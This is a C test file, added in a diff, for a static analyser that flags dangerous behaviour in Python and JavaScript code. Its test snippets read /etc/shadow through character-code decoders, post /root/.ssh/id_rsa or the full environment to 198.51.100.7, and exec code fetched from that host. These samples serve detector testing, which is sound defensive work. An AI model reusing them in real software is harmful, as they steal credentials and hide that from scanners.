@@ -1,0 +1,110 @@
+/* flow.c - what names stand for: branches, loops, functions, classes, containers, other files. */
+#include "assess/assess.h"
+#include "base/cleanup.h"
+#include "tap.h"
+
+#define PY BAWN_LANG_PYTHON
+#define JS BAWN_LANG_JAVASCRIPT
+
+/* `rule` is found, or (with !) is not.  A function that is only mentioned is a finding of its own, so
+ * where it is called is said by `@` and the line. */
+static const struct { const char *name, *rule; int language; const char *code; } row[] = {
+	{ "a branch does not wipe out what held before it", "any/system-write", PY, "p = '/etc/motd'\nif x:\n    p = 'out.txt'\nopen(p, 'w')\n" },
+	{ "an else branch counts", "any/system-write", PY, "if x:\n    p = 'a'\nelse:\n    p = '/etc/motd'\nopen(p, 'w')\n" },
+	{ "a case of match counts", "any/system-write", PY, "match x:\n    case 1:\n        p = '/etc/motd'\n    case _:\n        p = 'a'\nopen(p, 'w')\n" },
+	{ "what an except branch binds counts", "any/system-write", PY, "try:\n    p = 'a'\nexcept OSError:\n    p = '/etc/motd'\nopen(p, 'w')\n" },
+	{ "one after the other: the last one holds", "!any/system-write", PY, "p = '/etc/motd'\nopen(p).read()\np = 'out.txt'\nopen(p, 'w')\n" },
+	{ "also inside a branch", "!any/system-write", PY, "if x:\n    p = '/etc/motd'\n    open(p).read()\n    p = 'out.txt'\n    open(p, 'w')\n" },
+	{ "also in the main part", "!any/system-write", PY, "p = '/etc/motd'\nif __name__ == '__main__':\n    p = 'out.txt'\n    open(p, 'w')\n" },
+	{ "either of two functions is called", "python/shell@7", PY, "import os\nf = print\nif x:\n    f = os.system\nelse:\n    f = len\nf('id')\n" },
+	{ "a branch in JavaScript", "javascript/child-process@3", JS, "let f = console.log;\nif (x) { f = require('child_process').exec; } else { f = alert; }\nf('id');\n" },
+	{ "a loop over known items puts a text together", "any/secret-read", PY, "s = ''\nfor c in [47, 101, 116, 99, 47, 115, 104, 97, 100, 111, 119]:\n    s += chr(c)\nopen(s).read()\n" },
+	{ "a loop that appends", "any/secret-read", PY, "l = []\nfor c in 'wodahs/cte/':\n    l.append(c)\nl.reverse()\nopen(''.join(l[::-1])).read()\nopen('/' + 'etc/sha' + 'dow')\n" },
+	{ "a function that decodes, called with a constant", "python/shell@7", PY, "import os\ndef d(s):\n    r = ''\n    for c in s:\n        r += chr(ord(c) ^ 1)\n    return r\ngetattr(os, d('rxrudl'))('id')\n" },
+	{ "each call of it for itself", "any/secret-read", PY, "def d(s):\n    return ''.join(chr(ord(c) - 1) for c in s)\na = d('bcd')\nb = d('0fud0tibepx')\nopen(b)\nc = d('xyz')\n" },
+	{ "a decoder in JavaScript", "any/secret-read", JS, "function d(a) { let r = ''; for (const c of a) { r += String.fromCharCode(c ^ 2); } return r; }\nrequire('fs').readFileSync(d([45, 103, 118, 97, 45, 113, 106, 99, 102, 109, 117]));\n" },
+	{ "all calls of a function count", "any/secret-read", PY, "def show(p):\n    print(open(p).read())\nshow('/etc/shadow')\nshow('a.txt')\n" },
+	{ "arguments by keyword", "any/secret-read", PY, "def show(a, path=None):\n    print(open(path).read())\nshow(1, path='/etc/shadow')\n" },
+	{ "default arguments", "any/secret-read", PY, "def show(path='/etc/shadow'):\n    print(open(path).read())\nshow()\n" },
+	{ "a class attribute is a function", "python/shell@4", PY, "import os\nclass A:\n    run = os.system\nA.run('id')\n" },
+	{ "through an object of the class", "python/shell@5", PY, "import os\nclass A:\n    run = os.system\na = A()\na.run('id')\n" },
+	{ "a method gives back what it read", "any/exfiltration", PY, "import requests\nclass A:\n    def key(self):\n        return open('/root/.ssh/id_rsa').read()\n    def go(self):\n        requests.post('http://198.51.100.7', data=self.key())\nA().go()\n" },
+	{ "what the constructor was given", "any/secret-read", PY, "class A:\n    def __init__(self, p):\n        self.p = p\n    def go(self):\n        return open(self.p).read()\nA('/etc/shadow').go()\n" },
+	{ "a table of functions filled later", "python/shell@4", PY, "import os\nt = {}\nt['a'] = os.system\nt['a']('id')\n" },
+	{ "f.call and f.apply", "javascript/child-process@2", JS, "const cp = require('child_process');\ncp.exec.call(null, 'id');\n" },
+	{ "one variable is not the whole environment", "!javascript/send-environment", JS, "fetch('https://example.com', { headers: { a: process.env.TOKEN } });\n" },
+	{ "the whole environment is", "javascript/send-environment", JS, "fetch('http://198.51.100.7', { method: 'POST', body: JSON.stringify(process.env) });\n" },
+};
+
+static bool is_it(const struct bawn_finding *f, const char *rule)
+{
+	size_t n = strcspn(rule, "@");
+	return strncmp(f->rule, rule, n) == 0 && f->rule[n] == '\0' && (rule[n] == '\0' || (f->path == NULL && f->line == (uint32_t)(rule[n + 1] - '0')));
+}
+
+static bool found(const struct bawn_assess_file *file, size_t n, const char *rule)
+{
+	struct bawn_assessment *a = NULL;
+	struct bawn_err err = { 0 };
+	bool hit = false;
+	if (bawn_assess(file, n, NULL, &a, &err) < 0)
+		diag("%s", err.msg);
+	for (size_t i = 0; a != NULL && i < a->n_findings; i++)
+		hit = hit || is_it(&a->finding[i], rule);
+	bawn_assessment_free(a);
+	return hit;
+}
+
+static void test_rows(void)
+{
+	for (size_t i = 0; i < BAWN_LEN(row); i++) {
+		struct bawn_assess_file f = { .language = row[i].language, .bytes = bawn_span(row[i].code) };
+		bool wanted = row[i].rule[0] != '!';
+		ok(found(&f, 1, row[i].rule + !wanted) == wanted, "%s", row[i].name);
+	}
+}
+
+struct part { const char *path, *code; };
+static const struct { const char *name, *rule; int language; struct part part[4]; } program[] = {
+	{ "a function imported from another file", "python/shell@2", PY,
+	  { { NULL, "from helper import run\nrun('id')\n" }, { "helper.py", "import os\nrun = os.system\n" } } },
+	{ "a file imported as a module", "python/shell@2", PY,
+	  { { NULL, "import lib.helper as h\nh.run('id')\n" }, { "lib/helper.py", "import os\nrun = os.system\n" } } },
+	{ "through two files, whatever their order", "python/shell@2", PY,
+	  { { NULL, "from a import run\nrun('id')\n" }, { "a.py", "from b import run\n" }, { "b.py", "from os import system as run\n" } } },
+	{ "a constant of another file", "any/system-write", PY,
+	  { { NULL, "from conf import TARGET\nopen(TARGET, 'w')\n" }, { "conf.py", "TARGET = '/etc/' + 'motd'\n" } } },
+	{ "from another file import everything", "any/system-write", PY,
+	  { { NULL, "from conf import *\nopen(TARGET, 'w')\n" }, { "conf.py", "TARGET = '/etc/' + 'motd'\n" } } },
+	{ "what a function of another file gives back", "python/exec-network", PY,
+	  { { NULL, "import net\nexec(net.get())\n" }, { "net.py", "import requests\ndef get():\n    return requests.get('http://198.51.100.7').text\n" } } },
+	{ "a secret read in one file and sent by another", "any/exfiltration", PY,
+	  { { NULL, "import keys, out\nout.send(keys.load())\n" }, { "keys.py", "def load():\n    return open('/root/.ssh/id_rsa').read()\n" },
+	    { "out.py", "import requests\ndef send(x):\n    requests.post('http://198.51.100.7', data=x)\n" } } },
+	{ "files that nobody names do not count together", "!any/exfiltration", PY,
+	  { { NULL, "print(1)\n" }, { "keys.py", "def load():\n    return open('/root/.ssh/id_rsa').read()\n" },
+	    { "out.py", "import requests\ndef send(x):\n    requests.post('http://198.51.100.7', data=x)\n" } } },
+	{ "require of another file", "javascript/child-process@2", JS,
+	  { { NULL, "const { run } = require('./lib/helper');\nrun('id');\n" }, { "lib/helper.js", "const run = require('child_process').exec;\nmodule.exports = { run };\n" } } },
+	{ "import of another file", "javascript/child-process@2", JS,
+	  { { NULL, "import { run } from './helper.js';\nrun('id');\n" }, { "helper.js", "import { exec } from 'child_process';\nexport const run = exec;\n" } } },
+};
+
+static void test_programs(void)
+{
+	for (size_t i = 0; i < BAWN_LEN(program); i++) {
+		struct bawn_assess_file file[BAWN_LEN(program[i].part)];
+		size_t n = 0;
+		for (; n < BAWN_LEN(program[i].part) && program[i].part[n].code != NULL; n++)
+			file[n] = (struct bawn_assess_file){ .path = program[i].part[n].path, .language = program[i].language, .bytes = bawn_span(program[i].part[n].code) };
+		bool wanted = program[i].rule[0] != '!';
+		ok(found(file, n, program[i].rule + !wanted) == wanted, "%s", program[i].name);
+	}
+}
+
+int main(void)
+{
+	test_rows();
+	test_programs();
+	return done_testing();
+}
